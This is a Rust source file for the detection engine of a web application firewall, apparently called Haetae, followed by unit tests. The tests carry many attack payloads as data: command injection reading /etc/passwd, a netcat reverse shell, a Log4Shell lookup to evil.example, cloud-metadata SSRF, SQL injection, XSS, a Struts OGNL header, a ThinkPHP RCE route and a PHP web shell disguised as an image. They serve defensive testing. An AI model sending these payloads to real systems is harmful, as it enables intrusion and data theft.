//! Haetae's detection engine. Input: a [`haetae_model::Request`]. Output: a
//! [`haetae_model::Verdict`]. No I/O, no async, no global state beyond
//! lazily built static tables; every step is linear in the input.
//!
//! The path of a request: [`targets`] lists every value worth inspecting
//! (path, argument names and values, cookies, chosen headers, uploaded
//! files); [`normalize`] decodes each to one normal form, noting evasions;
//! each detector in [`detect::ALL`] judges it; [`Engine::inspect`] turns
//! hits into findings, drops those the site's exceptions cover, scores the
//! rest and compares the score with the site's threshold.

mod base64;
pub mod detect;
pub mod exceptions;
pub mod normalize;
pub mod panics;
pub mod protocol;
pub mod session;
pub mod targets;
#[cfg(test)]
pub(crate) mod testutil;
pub mod upload;

use std::time::Instant;

use haetae_model::{Action, Confidence, Finding, Location, Request, Verdict};

pub use exceptions::Exception;

/// How eager the engine is to block. The default, `Medium`, is the one the
/// accuracy targets are measured at.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Sensitivity {
    /// Block only on findings the engine is sure of.
    Low,
    #[default]
    Medium,
    /// Block on any likely attack; more false positives.
    High,
}

impl Sensitivity {
    /// The score at or above which a request is blocked.
    pub fn threshold(self) -> u32 {
        match self {
            Sensitivity::Low => 8,
            Sensitivity::Medium => 5,
            Sensitivity::High => 3,
        }
    }
}

/// Every detector family name, as `disabled_detectors` and exceptions use
/// them: the value detectors, then the request-level checks.
pub fn families() -> Vec<&'static str> {
    detect::ALL.iter().map(|d| d.name).chain(["upload", "session", "protocol", "evasion"]).collect()
}

/// Per-site engine settings.
#[derive(Debug, Clone)]
pub struct EngineConfig {
    pub sensitivity: Sensitivity,
    /// Overrides the sensitivity's threshold when set.
    pub threshold: Option<u32>,
    pub exceptions: Vec<Exception>,
    /// Detector families switched off for the whole site.
    pub disabled: Vec<String>,
    /// Single shapes switched off (`detect::shapes` ids).
    pub disabled_shapes: Vec<String>,
    /// Also inspect values that are entirely base64, decoded (on by default).
    pub decode_base64: bool,
}

impl Default for EngineConfig {
    fn default() -> Self {
        Self {
            sensitivity: Sensitivity::default(),
            threshold: None,
            exceptions: Vec::new(),
            disabled: Vec::new(),
            disabled_shapes: Vec::new(),
            decode_base64: true,
        }
    }
}

/// Inspection ran past its time budget.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Timeout;

impl std::fmt::Display for Timeout {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("inspection exceeded its time budget")
    }
}

impl std::error::Error for Timeout {}

/// A compiled engine for one site. Cheap to share between threads.
#[derive(Debug, Clone)]
pub struct Engine {
    cfg: EngineConfig,
    /// The enabled detectors, resolved once from `cfg.disabled`.
    active: Vec<&'static detect::Detector>,
    protocol: bool,
    upload: bool,
    session: bool,
    evasion: bool,
}

impl Default for Engine {
    fn default() -> Self {
        Self::new(EngineConfig::default())
    }
}

/// Longest excerpt kept in a finding (before the proxy masks it).
const EXCERPT: usize = 80;

impl Engine {
    pub fn new(mut cfg: EngineConfig) -> Self {
        // Paths are compared with the normalized (lower-case) request path.
        for e in &mut cfg.exceptions {
            if let Some(p) = &mut e.path {
                p.make_ascii_lowercase();
            }
        }
        let on = |name: &str| !cfg.disabled.iter().any(|d| d == name);
        let active = detect::ALL.iter().filter(|d| on(d.name)).collect();
        Self { protocol: on("protocol"), upload: on("upload"), session: on("session"), evasion: on("evasion"), active, cfg }
    }

    pub fn threshold(&self) -> u32 {
        self.cfg.threshold.unwrap_or_else(|| self.cfg.sensitivity.threshold())
    }

    /// Inspects a request with no time budget.
    pub fn inspect(&self, req: &Request) -> Verdict {
        // Without a deadline there is no timeout.
        self.inspect_until(req, None).unwrap_or_default()
    }

    /// Inspects a request; gives up with [`Timeout`] once `deadline` passes
    /// (checked between values, so one value's cost is the granularity).
    pub fn inspect_until(&self, req: &Request, deadline: Option<Instant>) -> Result<Verdict, Timeout> {
        let mut findings: Vec<Finding> = Vec::new();
        if self.protocol {
            protocol::check(req, &mut findings);
        }
        if self.upload {
            upload::check(req, &mut findings);
        }
        if self.session {
            session::check(req, &mut findings);
        }
        let mut checked = 0usize;
        let mut timed_out = false;
        let look = !self.active.is_empty() || self.evasion;
        targets::for_each(req, look, self.cfg.decode_base64, |t| {
            if timed_out {
                return;
            }
            checked += 1;
            if checked.is_multiple_of(32) && deadline.is_some_and(|d| Instant::now() > d) {
                timed_out = true;
                return;
            }
            self.judge(&t, &mut findings);
        });
        // Checked once more at the end, so the budget also bounds
        // requests with few values.
        if timed_out || deadline.is_some_and(|d| Instant::now() > d) {
            return Err(Timeout);
        }
        if !self.cfg.exceptions.is_empty() && !findings.is_empty() {
            let norm_path = normalize::normalize(&req.path).0;
            findings.retain(|f| !self.cfg.exceptions.iter().any(|e| e.covers(&norm_path, f)));
        }
        let score = score(&findings);
        let action = if score >= self.threshold() { Action::Block } else { Action::Allow };
        Ok(Verdict { score, action, findings })
    }

    fn judge(&self, t: &targets::Owned, findings: &mut Vec<Finding>) {
        let target = t.as_target();
        let mut hit_any = false;
        let prose = detect::is_prose(target.norm, true) && !targets::alnum_payload(target.raw);
        for d in self.active.iter().filter(|d| d.prose || !prose) {
            // A panic in one detector costs its finding on this value, not
            // the inspection: the others still judge it.
            let checked = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| (d.check)(&target)));
            let Ok(hit) = checked else {
                panics::note(d.name, &t.location);
                continue;
            };
            if let Some(h) = hit {
                let mut h = h.settle(d.name);
                if h.shape.is_some_and(|s| self.cfg.disabled_shapes.iter().any(|d| d == s)) {
                    continue;
                }
                hit_any = true;
                // Evasion around a real finding raises confidence: benign
                // input has no reason to be double-encoded.
                if target.evasion.any_strong() && h.confidence < Confidence::High {
                    h.confidence = Confidence::High;
                    h.reason.to_mut().push_str(" (with encoding evasion)");
                }
                findings.push(make_finding(d.name, t.location.to_model(), &target.norm[h.at.min(target.norm.len())..], h));
            }
        }
        if !hit_any && self.evasion {
            let ev = target.evasion;
            if ev.overlong_utf8 || ev.nul {
                let why = if ev.overlong_utf8 { "evasion: overlong UTF-8" } else { "evasion: NUL byte" };
                findings.push(make_finding(
                    "evasion",
                    t.location.to_model(),
                    target.norm,
                    detect::Hit::new(1101, Confidence::Medium, why, 0),
                ));
            }
        }
    }
}

/// The request's score: each shape counts once, at its strongest finding.
/// The same weak evidence copied into several values (a JS error's message
/// and its stack, a title in three beacon fields) is one piece of evidence;
/// different shapes add up.
pub fn score(findings: &[Finding]) -> u32 {
    let mut best: Vec<(&str, u32)> = Vec::with_capacity(findings.len());
    for f in findings {
        match best.iter_mut().find(|(s, _)| *s == f.shape) {
            Some((_, b)) => *b = (*b).max(f.score),
            None => best.push((f.shape, f.score)),
        }
    }
    best.iter().map(|(_, b)| b).sum()
}

pub(crate) fn make_finding(detector: &'static str, location: impl Into<Location>, evidence: &[u8], h: detect::Hit) -> Finding {
    let cut = evidence.len().min(EXCERPT);
    let h = h.settle(detector);
    Finding {
        detector,
        rule_id: h.rule_id,
        shape: h.shape.unwrap_or_else(|| detect::shapes::other(detector)),
        location: location.into(),
        excerpt: String::from_utf8_lossy(&evidence[..cut]).into_owned(),
        reason: h.reason.into_owned(),
        confidence: h.confidence,
        score: h.confidence.score(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use haetae_model::{ParseLimits, RequestBuilder};

    fn req(target: &str) -> Request {
        req_with(target, &[])
    }

    /// A GET from a browser, with `extra` headers.
    fn req_with(target: &str, extra: &[(&str, &[u8])]) -> Request {
        let l = ParseLimits::default();
        let mut b = RequestBuilder::new("GET", target, &l);
        b.header("Host", b"localhost");
        b.header("User-Agent", b"Mozilla/5.0");
        for (n, v) in extra {
            b.header(n, v);
        }
        b.build()
    }

    #[test]
    fn reads_attacks_carried_in_path_segments() {
        for (path, detector) in [
            ("/item/%3B%20cat%20/etc/passwd", "cmdi"),
            ("/item/%24%7Bjndi%3Aldap%3A//evil.example/a%7D", "code"),
            ("/page/%7B%7B7*7%7D%7D", "code"),
            ("/view/php%3A//filter/convert.base64-encode/resource%3Dindex.php", "code"),
            ("/fetch/http%3A//169.254.169.254/latest/meta-data/", "ssrf"),
            ("/go/javascript%3Aalert(1)", "xss"),
            ("/item/1'/**/UnIoN/**/SeLeCt/**/1,2,3--+", "sqli"),
            ("/item/';system('id');'", "code"),
        ] {
            let v = Engine::default().inspect(&req(path));
            assert!(v.is_block() && v.findings.iter().any(|f| f.detector == detector && f.location == "REQUEST_PATH"), "{path}: {v:?}");
        }
        for path in [
            "/wiki/Special:Search",
            "/wiki/Mercury_(planet)",
            "/img/photo(1).jpg",
            "/a/*/b/*/c",
            "/a;jsessionid=0123ABCD",
            "/shop/item/123-blue-shirt",
            "/static/app.3f2a.js",
            "/@user/post",
        ] {
            assert!(!Engine::default().inspect(&req(path)).is_block(), "{path}");
        }
    }

    #[test]
    fn a_shape_counts_once_however_many_values_repeat_it() {
        let f = |shape: &'static str, c: Confidence| Finding {
            detector: "x",
            rule_id: 1,
            shape,
            location: "ARGS:a".into(),
            excerpt: String::new(),
            reason: String::new(),
            confidence: c,
            score: c.score(),
        };
        assert_eq!(score(&[f("a", Confidence::Low), f("a", Confidence::Low), f("a", Confidence::Medium)]), 4);
        assert_eq!(score(&[f("a", Confidence::Medium), f("b", Confidence::Medium)]), 8);
        // A JS error report: its message and its stack quote the same
        // selector (two weak shapes, each twice) and pass.
        let l = ParseLimits::default();
        let mut b = RequestBuilder::new("POST", "/api/client-errors", &l);
        b.header("Host", b"localhost");
        b.header("Content-Type", b"application/json");
        let msg = r##"TypeError: null is not an object (evaluating 'document.querySelector(\"#cart-count\").innerText')"##;
        b.body(format!(r#"{{"message":"{msg}","stack":"{msg}\n    at https://localhost/js/app.js:2:10"}}"#).as_bytes(), false);
        let v = Engine::default().inspect(&b.build());
        assert!(!v.is_block(), "{v:?}");
    }

    #[test]
    fn blocks_attack_and_names_location() {
        let v = Engine::default().inspect(&req("/search?q=1%27%20or%201%3D1--"));
        assert!(v.is_block());
        assert_eq!(v.findings[0].location, "ARGS:q");
        assert_eq!(v.findings[0].detector, "sqli");
        assert!(v.findings[0].reason.contains("tautology"), "{}", v.findings[0].reason);
    }

    #[test]
    fn base64_behind_javascript_escapes_is_decoded() {
        // `\u0058\u0079` spells `Xy`: base64 of `_$$ND_FUNC$$_function()` once unescaped.
        let cookie: &[u8] = b"c=\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK";
        let v = Engine::default().inspect(&req_with("/", &[("Cookie", cookie)]));
        assert!(v.is_block(), "{:?}", v.findings);
        assert!(v.findings.iter().any(|f| f.location.reading == haetae_model::Reading::Base64), "{:?}", v.findings);
    }

    #[test]
    fn allows_benign() {
        let v = Engine::default().inspect(&req("/search?q=hello+world&page=2&sort=relevance"));
        assert_eq!(v.score, 0, "{:?}", v.findings);
        assert!(!v.is_block());
    }

    #[test]
    fn exceptions_remove_findings() {
        let cfg = EngineConfig {
            exceptions: vec![Exception {
                path: Some("/search".into()),
                param: Some("q".into()),
                detectors: vec!["sqli".into()],
                ..Default::default()
            }],
            ..Default::default()
        };
        let v = Engine::new(cfg).inspect(&req("/search?q=1%27%20or%201%3D1--"));
        assert!(!v.is_block());
        let v = Engine::default().inspect(&req("/other?q=1%27%20or%201%3D1--"));
        assert!(v.is_block());
    }

    /// An exception names a parameter, not one reading of it: `param =
    /// "data"` covers the base64 reading too (it compared the text
    /// `ARGS:data (base64)` before).
    #[test]
    fn exceptions_cover_every_reading_of_a_parameter_and_name_shapes() {
        let r = req("/x?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D");
        let shape = Engine::default().inspect(&r).findings[0].shape;
        assert_eq!(shape, "xss.script-tag");
        let by_param =
            EngineConfig { exceptions: vec![Exception { param: Some("data".into()), ..Default::default() }], ..Default::default() };
        assert!(!Engine::new(by_param).inspect(&r).is_block());
        let by_shape =
            EngineConfig { exceptions: vec![Exception { shapes: vec![shape.into()], ..Default::default() }], ..Default::default() };
        assert!(!Engine::new(by_shape).inspect(&r).is_block());
        let other_shape = EngineConfig {
            exceptions: vec![Exception { shapes: vec!["xss.javascript-url".into()], ..Default::default() }],
            ..Default::default()
        };
        assert!(Engine::new(other_shape).inspect(&r).is_block());
        // One shape off, the rest of the family on.
        let off = Engine::new(EngineConfig { disabled_shapes: vec![shape.into()], ..Default::default() });
        assert!(!off.inspect(&r).is_block());
        assert!(off.inspect(&req("/x?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")).is_block());
    }

    /// Each shell shape has an id of its own (all were rule 2202 alone).
    #[test]
    fn shell_shapes_are_told_apart() {
        let shape = |q: &str| Engine::default().inspect(&req(&format!("/x?q={q}"))).findings.first().map(|f| f.shape);
        assert_eq!(shape("x%7Cbash%20-i"), Some("cmdi.pipe-into-shell"));
        assert_eq!(shape("%3Bcat%20%2Fetc%2Fpasswd"), Some("cmdi.command-line"));
        assert_eq!(shape("%7C%7Cnc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444"), Some("cmdi.separator-command-start-value"));
        assert_eq!(shape("%3Ecat%20%3C(ls)"), Some("cmdi.process-substitution"));
    }

    #[test]
    fn base64_wrapped_payloads_follow_the_site_switch() {
        // "<script>alert(1)</script>", base64.
        let r = req("/x?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D");
        let on = Engine::default().inspect(&r);
        assert!(on.is_block(), "{:?}", on.findings);
        assert_eq!(on.findings[0].location, "ARGS:data (base64)");
        let off = Engine::new(EngineConfig { decode_base64: false, ..Default::default() }).inspect(&r);
        assert!(!off.is_block(), "{:?}", off.findings);
    }

    #[test]
    fn sensitivity_moves_threshold() {
        // A Medium-confidence finding alone: blocks only at high sensitivity.
        let r = req("/x?q=select%20a,b%20from%20t");
        let med = Engine::default().inspect(&r);
        assert!(!med.is_block(), "{:?}", med.findings);
        assert!(med.score > 0);
        let high = Engine::new(EngineConfig { sensitivity: Sensitivity::High, ..Default::default() }).inspect(&r);
        assert!(high.is_block());
    }

    #[test]
    fn fixed_syntax_headers_and_disguised_uploads_are_read() {
        let l = ParseLimits::default();
        let e = Engine::default();
        // Struts CVE-2017-5638: OGNL in Content-Type.
        let mut b = RequestBuilder::new("GET", "/index.action", &l);
        b.header("Host", b"localhost");
        b.header("Content-Type", b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}");
        assert!(e.inspect(&b.build()).is_block());
        let mut b = RequestBuilder::new("GET", "/", &l);
        b.header("Host", b"evil.com'; DROP TABLE x;--");
        assert!(e.inspect(&b.build()).is_block());
        let mut b = RequestBuilder::new("GET", "/", &l);
        b.header("X-Forwarded-Host", b"; cat /etc/passwd");
        assert!(e.inspect(&b.build()).is_block());
        // A plain browser request stays clean.
        let mut b = RequestBuilder::new("GET", "/", &l);
        b.header("Host", b"localhost:8080");
        b.header("X-Forwarded-Host", b"shop.example.com:8443");
        b.header("Forwarded", b"for=192.0.2.60;proto=http;by=203.0.113.43");
        b.header("Origin", b"https://shop.example.com");
        b.header("Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
        b.header("Content-Type", b"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW");
        assert_eq!(e.inspect(&b.build()).score, 0);
        // `image.php.jpg` with PHP inside: the inner extension alone is
        // medium, the content makes it certain.
        let mut b = RequestBuilder::new("POST", "/upload", &l);
        b.header("Content-Type", b"multipart/form-data; boundary=XX");
        b.body(
            b"--XX\r\nContent-Disposition: form-data; name=\"file\"; filename=\"image.php.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a<?php eval($_POST[1]);?>\r\n--XX--\r\n",
            false,
        );
        let v = e.inspect(&b.build());
        assert!(v.is_block(), "{:?}", v.findings);
        // ThinkPHP's invokefunction route and a function passed by name.
        let v = e.inspect(&req("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"));
        assert!(v.is_block(), "{:?}", v.findings);
    }

    #[test]
    fn deadline_in_the_past_times_out() {
        let mut target = String::from("/x?");
        for i in 0..200 {
            target.push_str(&format!("a{i}=v%27&"));
        }
        let r = req(&target);
        let past = Instant::now() - std::time::Duration::from_secs(1);
        assert_eq!(Engine::default().inspect_until(&r, Some(past)).unwrap_err(), Timeout);
    }
}
